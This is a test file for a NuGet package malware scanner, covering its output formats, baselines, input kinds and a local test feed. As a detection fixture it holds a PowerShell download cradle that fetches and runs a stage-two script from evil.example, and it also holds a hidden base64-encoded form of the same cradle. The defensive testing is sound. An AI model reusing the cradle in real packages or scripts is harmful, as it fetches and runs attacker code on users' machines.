"""``nuseal scan``: exit codes, text/JSON/SARIF output (SARIF validated against the official 2.1.0 schema),
baselines, user rules, and every kind of input: files, folders, globs, global-packages folders, lock files,
and a V3 feed served on 127.0.0.1."""

from __future__ import annotations

import base64
import json
import threading
import zipfile
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, ClassVar

import jsonschema
import pytest

from nuseal.cli.main import main

from .scan_support import INSTALL_TIME, SARIF_SCHEMA, SHARED, make_nupkg

CRADLE = "iex (New-Object Net.WebClient).DownloadString('http://evil.example/stage2.ps1')\n"
NOTE_ONLY = "Write-Host 'thanks for installing'\n"


def run(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    code = main(["scan", *args])
    out, err = capsys.readouterr()
    return code, out, err


@pytest.fixture
def packages(tmp_path: Path) -> Path:
    folder = tmp_path / "pkgs"
    folder.mkdir()
    (folder / "Evil.Lib.1.0.0.nupkg").write_bytes(make_nupkg("Evil.Lib", "1.0.0", {"tools/init.ps1": CRADLE}))
    (folder / "Nice.Lib.2.0.0.nupkg").write_bytes(make_nupkg("Nice.Lib", "2.0.0", {"tools/install.ps1": NOTE_ONLY}))
    return folder


def sarif_validator() -> jsonschema.protocols.Validator:
    schema = json.loads(SARIF_SCHEMA.read_text(encoding="utf-8"))
    cls = jsonschema.validators.validator_for(schema)
    cls.check_schema(schema)
    return cls(schema)


# ------------------------------------------------------------------------------------------------ exit codes
def test_exit_codes(capsys: pytest.CaptureFixture[str], packages: Path, tmp_path: Path) -> None:
    code, out, _ = run(capsys, str(packages / "Nice.Lib.2.0.0.nupkg"))
    assert code == 0, out
    code, out, _ = run(capsys, str(packages))
    assert code == 1
    assert "error   NS1110  tools/init.ps1:1" in out
    assert "Scanned 2 packages: 1 errors" in out
    code, _, _ = run(capsys, "--fail-on", "note", str(packages / "Nice.Lib.2.0.0.nupkg"))
    assert code == 1
    code, _, err = run(capsys, str(tmp_path / "nope.nupkg"))
    assert code == 2
    assert err.strip().count("\n") == 0 and "not found" in err
    code, _, err = run(capsys, "--format", "xml", str(packages))
    assert code == 2


def test_vectors_exit_zero_and_text_sample(capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = run(capsys, str(SHARED / "vectors"))
    assert code == 0, out
    assert "Newtonsoft.Json 6.0.4" in out
    assert "0 errors, 0 warnings" in out


def test_unreadable_rules_or_baseline_is_usage_error(capsys: pytest.CaptureFixture[str], packages: Path,
                                                      tmp_path: Path) -> None:
    bad = tmp_path / "bad.json"
    bad.write_text("{")
    code, _, err = run(capsys, "--baseline", str(bad), str(packages))
    assert code == 2 and "not JSON" in err
    rules = tmp_path / "r.toml"
    rules.write_text("[[rules]\n")
    code, _, err = run(capsys, "--rules", str(rules), str(packages))
    assert code == 2 and "not valid TOML" in err


# ------------------------------------------------------------------------------------------------ formats
def test_json_document(capsys: pytest.CaptureFixture[str], packages: Path) -> None:
    code, out, _ = run(capsys, "--format", "json", str(packages))
    assert code == 1
    doc = json.loads(out)
    assert doc["schema"] == "nuseal-scan/1"
    assert doc["summary"]["packages"] == 2
    evil = next(p for p in doc["packages"] if p["id"] == "Evil.Lib")
    finding = next(f for f in evil["findings"] if f["rule"] == "NS1110")
    assert finding["severity"] == "error"
    assert finding["path"] == "tools/init.ps1" and finding["line"] == 1
    assert set(finding) == {"rule", "title", "severity", "securitySeverity", "message", "path", "line", "column",
                            "evidence", "fileSha256", "fingerprint"}


def test_json_validates_against_the_documented_schema(capsys: pytest.CaptureFixture[str], packages: Path,
                                                      tmp_path: Path) -> None:
    schema = json.loads((Path(__file__).resolve().parents[2] / "docs" / "scan.schema.json").read_text())
    jsonschema.Draft202012Validator.check_schema(schema)
    validator = jsonschema.Draft202012Validator(schema)
    baseline = tmp_path / "b.json"
    baseline.write_text(json.dumps({"version": 1, "suppressions": [
        {"id": "Nice.Lib", "version": "*", "rule": "NS1001"},
        {"id": "Gone.Lib", "version": "1.0.0", "rule": "NS1001", "reason": "stale on purpose"},
    ]}))
    _, out, _ = run(capsys, "--format", "json", "--baseline", str(baseline), str(packages), str(SHARED / "vectors"))
    doc = json.loads(out)
    validator.validate(doc)
    assert doc["summary"]["suppressed"] == 1 and len(doc["staleSuppressions"]) == 1
    broken = tmp_path / "Broken.nupkg"
    broken.write_bytes(b"PK not really")
    _, out, _ = run(capsys, "--format", "json", str(broken))
    doc = json.loads(out)
    validator.validate(doc)
    assert doc["packages"][0]["id"] is None


def test_sarif_validates_and_fingerprints_are_stable(capsys: pytest.CaptureFixture[str], packages: Path,
                                                     tmp_path: Path) -> None:
    validator = sarif_validator()
    out_file = tmp_path / "scan.sarif"
    code, _, _ = run(capsys, "--format", "sarif", "--output", str(out_file), str(packages), str(SHARED / "vectors"))
    assert code == 1
    doc = json.loads(out_file.read_text())
    validator.validate(doc)
    run_ = doc["runs"][0]
    rule_ids = [r["id"] for r in run_["tool"]["driver"]["rules"]]
    assert "NS1110" in rule_ids and "NS2101" in rule_ids
    ns1110 = run_["tool"]["driver"]["rules"][rule_ids.index("NS1110")]
    assert float(ns1110["properties"]["security-severity"]) >= 9.0
    result = next(r for r in run_["results"] if r["ruleId"] == "NS1110")
    assert result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == (
        "nupkg://Evil.Lib/1.0.0/tools/init.ps1"
    )
    assert run_["tool"]["driver"]["rules"][result["ruleIndex"]]["id"] == "NS1110"
    # a second run, and a new version of the package, keep the fingerprints
    (packages / "Evil.Lib.1.0.1.nupkg").write_bytes(make_nupkg("Evil.Lib", "1.0.1", {"tools/init.ps1": CRADLE}))
    code, out, _ = run(capsys, "--format", "sarif", str(packages))
    again = json.loads(out)
    validator.validate(again)
    prints = {(r["properties"]["packageVersion"], r["ruleId"]): r["partialFingerprints"]["nusealFinding/v1"]
              for r in again["runs"][0]["results"]}
    first = {r["ruleId"]: r["partialFingerprints"]["nusealFinding/v1"] for r in run_["results"]
             if r["properties"]["packageId"] == "Evil.Lib"}
    assert prints[("1.0.0", "NS1110")] == prints[("1.0.1", "NS1110")] == first["NS1110"]


def test_sarif_of_every_vector_validates(capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = run(capsys, "--format", "sarif", str(SHARED / "vectors"))
    assert code == 0
    doc = json.loads(out)
    sarif_validator().validate(doc)
    assert len(doc["runs"][0]["results"]) > 20


# ------------------------------------------------------------------------------------------------ suppressions
def test_baseline_suppresses_and_reports_stale(capsys: pytest.CaptureFixture[str], packages: Path,
                                               tmp_path: Path) -> None:
    baseline = tmp_path / "baseline.json"
    code, _, _ = run(capsys, "--write-baseline", str(baseline), str(packages))
    assert code == 1
    written = json.loads(baseline.read_text())
    assert {s["rule"] for s in written["suppressions"]} >= {"NS1110", "NS1001"}
    code, out, _ = run(capsys, "--baseline", str(baseline), str(packages))
    assert code == 0, out
    assert "suppressed" in out
    # the file changes: its suppressions stop matching, the finding is back and the old entries are stale
    (packages / "Evil.Lib.1.0.0.nupkg").write_bytes(
        make_nupkg("Evil.Lib", "1.0.0", {"tools/init.ps1": "# v2\n" + CRADLE})
    )
    code, out, _ = run(capsys, "--baseline", str(baseline), str(packages))
    assert code == 1
    assert "stale suppression (matched nothing): Evil.Lib 1.0.0 NS1110" in out
    # a version wildcard without a hash suppresses every version
    baseline.write_text(json.dumps({"version": 1, "suppressions": [
        {"id": "evil.lib", "version": "*", "rule": r} for r in ("NS1001", "NS1101", "NS1102", "NS1110", "NS1140")
    ]}))
    code, out, _ = run(capsys, "--format", "json", "--baseline", str(baseline), str(packages))
    doc = json.loads(out)
    assert code == 0
    assert doc["summary"]["suppressed"] >= 4 and doc["staleSuppressions"] == []


def test_user_rules_file(capsys: pytest.CaptureFixture[str], packages: Path, tmp_path: Path) -> None:
    rules = tmp_path / "rules.toml"
    rules.write_text('[[rules]]\nid = "NS1001"\nseverity = "error"\n')
    code, out, _ = run(capsys, "--rules", str(rules), str(packages / "Nice.Lib.2.0.0.nupkg"))
    assert code == 1
    assert "error   NS1001" in out


# ------------------------------------------------------------------------------------------------ inputs
def extract_to_global_packages(nupkg: Path, root: Path, package_id: str, version: str) -> Path:
    folder = root / package_id.lower() / version.lower()
    folder.mkdir(parents=True)
    with zipfile.ZipFile(nupkg) as z:
        for info in z.infolist():
            if info.filename.startswith(("_rels/", "package/")) or info.filename in (
                "[Content_Types].xml", ".signature.p7s"
            ):
                continue
            z.extract(info, folder)
    (folder / f"{package_id.lower()}.{version.lower()}.nupkg").write_bytes(nupkg.read_bytes())
    (folder / f"{package_id.lower()}.{version.lower()}.nupkg.sha512").write_text("x")
    (folder / ".nupkg.metadata").write_text('{"version": 2}')
    return folder


def test_global_packages_folder_and_lock_file(capsys: pytest.CaptureFixture[str], packages: Path,
                                              tmp_path: Path) -> None:
    gp = tmp_path / "global"
    evil = extract_to_global_packages(packages / "Evil.Lib.1.0.0.nupkg", gp, "Evil.Lib", "1.0.0")
    extract_to_global_packages(INSTALL_TIME / "jQuery.1.10.2.nupkg", gp, "jQuery", "1.10.2")
    code, out, _ = run(capsys, "--format", "json", str(gp))
    doc = json.loads(out)
    assert code == 1
    assert sorted(p["id"] for p in doc["packages"]) == ["Evil.Lib", "jQuery"]
    # SARIF locations of extracted packages are file paths
    code, out, _ = run(capsys, "--format", "sarif", str(gp))
    sarif = json.loads(out)
    sarif_validator().validate(sarif)
    uris = {r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] for r in sarif["runs"][0]["results"]
            if r["ruleId"] == "NS1110"}
    assert uris == {(evil / "tools" / "init.ps1").as_posix()}
    lock = tmp_path / "packages.lock.json"
    lock.write_text(json.dumps({"version": 1, "dependencies": {
        "net8.0": {
            "Evil.Lib": {"type": "Direct", "requested": "[1.0.0, )", "resolved": "1.0.0", "contentHash": "x"},
            "jQuery": {"type": "Transitive", "resolved": "1.10.2", "contentHash": "y"},
            "Gone.Lib": {"type": "Transitive", "resolved": "3.1.0", "contentHash": "z"},
            "My.Project": {"type": "Project"},
        },
        "net48": {"jQuery": {"type": "Transitive", "resolved": "1.10.2", "contentHash": "y"}},
    }}))
    code, out, _ = run(capsys, "--format", "json", "--packages-folder", str(gp), str(lock))
    doc = json.loads(out)
    assert code == 1
    ids = sorted(p["id"] for p in doc["packages"])
    assert ids == ["Evil.Lib", "Gone.Lib", "jQuery"]
    gone = next(p for p in doc["packages"] if p["id"] == "Gone.Lib")
    assert [f["rule"] for f in gone["findings"]] == ["NS9006"]


def test_nuget_packages_environment_variable(capsys: pytest.CaptureFixture[str], packages: Path, tmp_path: Path,
                                             monkeypatch: pytest.MonkeyPatch) -> None:
    gp = tmp_path / "global"
    extract_to_global_packages(INSTALL_TIME / "psake.4.9.0.nupkg", gp, "psake", "4.9.0")
    lock = tmp_path / "packages.lock.json"
    lock.write_text(json.dumps({"version": 1, "dependencies": {"net8.0": {
        "psake": {"type": "Direct", "resolved": "4.9.0", "contentHash": "x"}}}}))
    monkeypatch.setenv("NUGET_PACKAGES", str(gp))
    code, out, _ = run(capsys, "--fail-on", "error", str(lock))
    assert code == 0
    assert "psake 4.9.0" in out and "NS1001" in out


def test_globs_and_jobs(capsys: pytest.CaptureFixture[str], packages: Path) -> None:
    for i in range(20):
        (packages / f"Bulk.{i}.1.0.0.nupkg").write_bytes(make_nupkg(f"Bulk.P{i}", "1.0.0", {"lib/x.txt": "x"}))
    code, out, _ = run(capsys, "--jobs", "2", "--format", "json", str(packages / "*.nupkg"))
    doc = json.loads(out)
    assert code == 1
    assert doc["summary"]["packages"] == 22
    _, out2, _ = run(capsys, "--jobs", "1", "--format", "json", str(packages / "*.nupkg"))
    assert json.loads(out2)["packages"] == doc["packages"]  # same results, same order


# ------------------------------------------------------------------------------------------------ V3 feed
class _Feed(BaseHTTPRequestHandler):
    files: ClassVar[dict[str, tuple[str, bytes]]] = {}

    def do_GET(self) -> None:
        found = self.files.get(self.path.split("?", 1)[0])
        if found is None:
            self.send_response(404)
            self.end_headers()
            return
        ctype, body = found
        self.send_response(200)
        self.send_header("Content-Type", ctype)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: Any) -> None:
        pass


@pytest.fixture
def static_feed() -> Iterator[str]:
    """A minimal static NuGet V3 feed on 127.0.0.1: service index, search, flat container."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Feed)
    base = f"http://127.0.0.1:{server.server_address[1]}"
    packages = {
        ("Evil.Lib", "1.0.0"): make_nupkg("Evil.Lib", "1.0.0", {"tools/init.ps1": NOTE_ONLY}),
        ("Evil.Lib", "1.1.0"): make_nupkg("Evil.Lib", "1.1.0", {"tools/init.ps1": CRADLE}),
        ("Nice.Lib", "2.0.0"): make_nupkg("Nice.Lib", "2.0.0", {"lib/x.txt": "x"}),
    }

    def js(doc: Any) -> tuple[str, bytes]:
        return "application/json", json.dumps(doc).encode()

    files: dict[str, tuple[str, bytes]] = {
        "/v3/index.json": js({"version": "3.0.0", "resources": [
            {"@id": f"{base}/v3/flat/", "@type": "PackageBaseAddress/3.0.0"},
            {"@id": f"{base}/v3/search", "@type": "SearchQueryService"},
        ]}),
        "/v3/search": js({"totalHits": 2, "data": [{"id": "Evil.Lib", "version": "1.1.0"},
                                                   {"id": "Nice.Lib", "version": "2.0.0"}]}),
    }
    for pid in ("Evil.Lib", "Nice.Lib"):
        versions = [v for (i, v) in packages if i == pid]
        files[f"/v3/flat/{pid.lower()}/index.json"] = js({"versions": versions})
    for (pid, v), data in packages.items():
        files[f"/v3/flat/{pid.lower()}/{v}/{pid.lower()}.{v}.nupkg"] = ("application/octet-stream", data)
    _Feed.files = files
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"{base}/v3/index.json"
    finally:
        server.shutdown()
        server.server_close()


def test_feed_every_version_and_latest(capsys: pytest.CaptureFixture[str], static_feed: str) -> None:
    code, out, _ = run(capsys, "--format", "json", static_feed)
    doc = json.loads(out)
    assert code == 1
    assert sorted((p["id"], p["version"]) for p in doc["packages"]) == [
        ("Evil.Lib", "1.0.0"), ("Evil.Lib", "1.1.0"), ("Nice.Lib", "2.0.0")
    ]
    assert doc["packages"][0]["source"].startswith("http://127.0.0.1:")
    code, out, _ = run(capsys, "--format", "json", "--latest", static_feed)
    doc = json.loads(out)
    assert sorted((p["id"], p["version"]) for p in doc["packages"]) == [("Evil.Lib", "1.1.0"), ("Nice.Lib", "2.0.0")]


def test_unreachable_feed_is_one_line_usage_error(capsys: pytest.CaptureFixture[str]) -> None:
    code, _, err = run(capsys, "http://127.0.0.1:9/v3/index.json")
    assert code == 2
    assert err.count("\n") == 1 and "cannot reach" in err


def test_encoded_init_script_end_to_end(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    encoded = base64.b64encode(CRADLE.strip().encode("utf-16-le")).decode()
    pkg = tmp_path / "Enc.Lib.1.0.0.nupkg"
    pkg.write_bytes(make_nupkg("Enc.Lib", "1.0.0", {"tools/init.ps1": f"powershell -w hidden -enc {encoded}\n"}))
    code, out, _ = run(capsys, str(pkg))
    assert code == 1
    assert "NS1120" in out and "decodes to: iex (New-Object Net.WebClient)" in out


def test_popular_ids_file_reaches_the_lookalike_analyser(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    ids = tmp_path / "ours.txt"
    ids.write_text("Contoso.Widgets\n")
    pkg = tmp_path / "Contoso.Widgetz.1.0.0.nupkg"
    pkg.write_bytes(make_nupkg("Contoso.Widgetz", "1.0.0", {"lib/x.txt": "x"}))
    code, out, _ = run(capsys, "--format", "json", str(pkg))
    assert not [f for f in json.loads(out)["packages"][0]["findings"] if f["rule"].startswith("NS5")]
    code, out, _ = run(capsys, "--format", "json", "--popular-ids", str(ids), str(pkg))
    findings = json.loads(out)["packages"][0]["findings"]
    assert code == 1
    assert any(f["rule"].startswith("NS5") and "Contoso.Widgets" in f["evidence"] for f in findings)


def test_osv_folder_reaches_the_known_bad_analyser(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    osv = tmp_path / "osv"
    osv.mkdir()
    (osv / "MAL-2026-1.json").write_text(json.dumps({
        "id": "MAL-2026-1", "modified": "2026-01-01T00:00:00Z", "summary": "Malicious code in Evil.Lib",
        "affected": [{"package": {"ecosystem": "NuGet", "name": "Evil.Lib"}, "versions": ["1.0.0"]}],
    }))
    pkg = tmp_path / "Evil.Lib.1.0.0.nupkg"
    pkg.write_bytes(make_nupkg("Evil.Lib", "1.0.0", {"lib/x.txt": "x"}))
    code, out, _ = run(capsys, "--format", "json", "--osv", str(osv), str(pkg))
    findings = json.loads(out)["packages"][0]["findings"]
    assert code == 1
    assert any(f["rule"].startswith("NS6") and f["severity"] == "error" and "MAL-2026-1" in f["message"]
               for f in findings)
